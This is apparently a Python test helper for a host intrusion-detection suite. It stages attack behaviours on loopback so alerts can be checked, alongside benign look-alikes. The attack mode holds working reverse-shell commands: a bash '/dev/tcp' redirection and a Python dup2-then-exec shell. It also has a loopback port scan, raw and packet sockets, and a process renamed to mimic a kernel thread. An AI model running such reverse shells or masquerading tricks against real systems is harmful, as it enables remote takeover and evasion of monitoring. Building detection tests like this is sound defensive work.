"""What detection must catch, and the ordinary work it must leave alone, played on this host for LiveAlertsTest.

attacks.py attack LISTEN_PORT SCAN_BASE: a port scan (non-blocking connects to 50 closed loopback ports, 4 in flight),
an AF_INET raw socket opened with SOCK_CLOEXEC, an AF_INET6 raw socket, a packet socket, a socketpair made by a
child that renamed itself, a burst of getsockname/getpeername on the same sockets, a hostname change in a private UTS
namespace, a shell connecting out, and a listener on a new port.
attacks.py benign: a socketpair by a process that keeps its name, a listener on an ephemeral loopback port, clients
asking their own connections' addresses (like Kafka's and Flink's), a raw netlink socket (like ip, ss and nft).
Prints what it did as JSON on its last line.
"""
import ctypes
import errno
import json
import os
import selectors
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUTS = 0x04000000
did = {"pid": os.getpid()}


def scan(base):
    ports = list(range(base, base + 50))
    sel = selectors.DefaultSelector()
    refused = 0
    inflight = 0
    while ports or inflight:
        while ports and inflight < 4:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            s.connect_ex(("127.0.0.1", ports.pop()))
            sel.register(s, selectors.EVENT_WRITE)
            inflight += 1
        for key, _ in sel.select(5):
            s = key.fileobj
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == errno.ECONNREFUSED:
                refused += 1
            sel.unregister(s)
            s.close()
            inflight -= 1
    return refused


RENAMED = """
import ctypes, socket, time
ctypes.CDLL(None).prctl(15, b"kworker/u8:3", 0, 0, 0)  # PR_SET_NAME: take a kernel thread's look
a, b = socket.socketpair()
a.sendall(b"covert")
b.recv(16)
time.sleep(5)  # alive while the collector reads its context from /proc
"""


def renamed_socketpair():
    child = subprocess.Popen([sys.executable, "-c", RENAMED])
    child.wait()
    return child.pid


DUP2 = """
import os, socket
s = socket.create_connection(("127.0.0.1", %d))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""


def reverse_shell(srv, cmd):
    """Starts cmd, which connects back to srv and runs a shell there; sends it a command; returns the shell's pid."""
    p = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    conn, _ = srv.accept()
    conn.sendall(b"echo $$; sleep 3; exit\n")
    got = b""
    conn.settimeout(10)
    while b"\n" not in got or not got.strip().splitlines()[0].strip().isdigit():
        chunk = conn.recv(4096)
        if not chunk:
            break
        got += chunk
    p.wait(timeout=20)
    conn.close()
    return p.pid


def hostname_change():
    child = os.fork()
    if child == 0:
        if libc.unshare(CLONE_NEWUTS) != 0:
            os._exit(1)
        socket.sethostname("pwned-host")
        os._exit(0)
    _, status = os.waitpid(child, 0)
    return child, os.waitstatus_to_exitcode(status)


if sys.argv[1] == "attack":
    listen_port, scan_base = int(sys.argv[2]), int(sys.argv[3])
    did["refused"] = scan(scan_base)
    raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW | socket.SOCK_CLOEXEC, socket.IPPROTO_ICMP)
    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    # control-plane socket options, and a survey of the settings
    raw4.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    tcp = socket.socket()
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_DEBUG, 1)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")
    tcp.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
    for level, name in [(socket.SOL_SOCKET, n) for n in (1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 13, 15, 18, 19, 20, 21, 38, 39, 30)] \
            + [(socket.IPPROTO_TCP, n) for n in (1, 2, 3, 4, 5, 6)]:
        try:
            tcp.getsockopt(level, name)
        except OSError:
            pass
    tcp.close()
    did["renamed"] = renamed_socketpair()
    for _ in range(60):
        raw4.getsockname()
        raw6.getsockname()
    did["hostname"], did["hostnameExit"] = hostname_change()
    # a listener on a new port, then a shell connecting to it
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", listen_port))
    srv.listen(4)
    shell = subprocess.Popen(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d; echo hi >&3" % listen_port])
    conn, _ = srv.accept()
    conn.recv(16)
    shell.wait()
    did["shell"] = shell.pid
    conn.close()
    # reverse shells, two ways, each against a listener of this test: bash's own redirection, and python dup2()ing a
    # connected socket onto 0-2 before exec'ing a shell; each shell runs one command sent over the connection
    did["reverseBash"] = reverse_shell(srv, ["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % listen_port])
    did["reversePython"] = reverse_shell(srv, [sys.executable, "-c", DUP2 % listen_port])
    for s in (raw4, raw6, packet, srv):
        s.close()
    # the collector reads a process's context from /proc when its exec's record comes by: a process that is gone
    # by then has none (the kernel-side capture of it is a follow-up)
    time.sleep(5)
else:
    a, b = socket.socketpair()
    a.sendall(b"ipc")
    b.recv(8)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))  # the kernel picks an ephemeral port, as JVM tools do
    srv.listen(64)
    port = srv.getsockname()[1]
    did["ephemeral"] = port
    clients = []
    for _ in range(40):
        c = socket.create_connection(("127.0.0.1", port))
        c.getsockname()
        c.getpeername()
        conn, _ = srv.accept()
        clients += [c, conn]
    nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW | socket.SOCK_CLOEXEC, 0)
    nl.close()
    for s in clients:
        s.close()
    srv.close()
print(json.dumps(did))
